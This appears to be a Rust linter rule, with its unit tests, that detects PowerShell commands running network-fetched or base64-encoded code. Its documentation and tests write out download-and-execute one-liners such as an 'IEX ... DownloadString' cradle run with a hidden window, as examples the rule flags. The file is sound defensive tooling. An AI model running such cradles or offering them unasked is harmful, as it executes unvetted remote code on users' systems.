//! CARO0418: PowerShell runs what the network sends, or text that is encoded.

use crate::rules::{Check, Level, Sink};
use crate::script::Command;

rule! {
    /// Has PowerShell run whatever the network sends, or text that nobody can read.
    ///
    /// `iex (iwr …)` is `curl … | sh` in PowerShell, and `-EncodedCommand` takes commands in base64. Download to a file,
    /// read it, then run it.
    ///
    /// To decide: What does this text do when it is downloaded or decoded to a file and read first?
    ///
    /// ```sh bad
    /// pwsh -Command "iex (iwr -useb https://example.org/install.ps1)"
    /// ```
    /// ```sh bad
    /// powershell.exe -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('https://example.org/a')"
    /// ```
    /// ```sh bad
    /// pwsh -EncodedCommand ZQBjAGgAbwAgAGgAaQA=
    /// ```
    /// ```sh good
    /// pwsh -File build.ps1
    /// ```
    /// ```sh good
    /// pwsh -Command "Invoke-WebRequest https://example.org/data.csv -OutFile data.csv"
    /// ```
    "CARO0418" "powershell-download",
    Danger,
    Check::Command { programs: &["pwsh", "powershell", "powershell.exe", "pwsh.exe"], run: check }
}

fn check(command: &Command, sink: &mut Sink<'_>) {
    let words = command.arguments();
    let mut text = String::new();
    for word in words {
        text.push(' ');
        text.push_str(sink.value(word).shapes.first().map_or("", |it| &it.text));
    }
    let text = text.to_lowercase();
    let has = |name: &str| {
        text.match_indices(name).any(|(at, _)| {
            let edge = |it: Option<char>| !it.is_some_and(|it| it.is_alphanumeric() || it == '-' || it == '_');
            edge(text[..at].chars().next_back()) && edge(text[at + name.len()..].chars().next())
        })
    };
    let fetches =
        ["iwr", "irm", "curl", "wget", "invoke-webrequest", "invoke-restmethod", "downloadstring", "downloaddata"]
            .iter()
            .any(|it| has(it));
    if fetches && (has("iex") || has("invoke-expression") || text.contains("scriptblock]::create")) {
        sink.report(command.name_span(), "PowerShell runs whatever the network sends".to_owned());
        return;
    }
    let encoded = words.iter().find(|it| {
        it.literal().map(str::to_lowercase).is_some_and(|it| {
            let it = it.trim_start_matches(['-', '/']).to_owned();
            it == "ec" || it == "e" || it.len() > 1 && "encodedcommand".starts_with(&*it)
        }) && it.literal().is_some_and(|it| it.starts_with('-'))
    });
    if let Some(word) = encoded {
        let span = word.span;
        sink.report(span, "PowerShell runs text that nobody can read here".to_owned()).level(Level::Caution);
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::tests::check_marks;

    #[test]
    fn names_are_compared_whole_and_in_any_case() {
        check_marks("powershell -c 'irm https://x.io/a | iex'\n#mark 0 0 10 CARO0418\n");
        check_marks("pwsh -c 'irm https://x.io/a | Export-Csv iexport.csv'\n");
        check_marks("pwsh -enc ZQBjAGg=\n#    ^^^^ CARO0418\n");
        check_marks("pwsh -ExecutionPolicy Bypass -File x.ps1\n");
    }
}
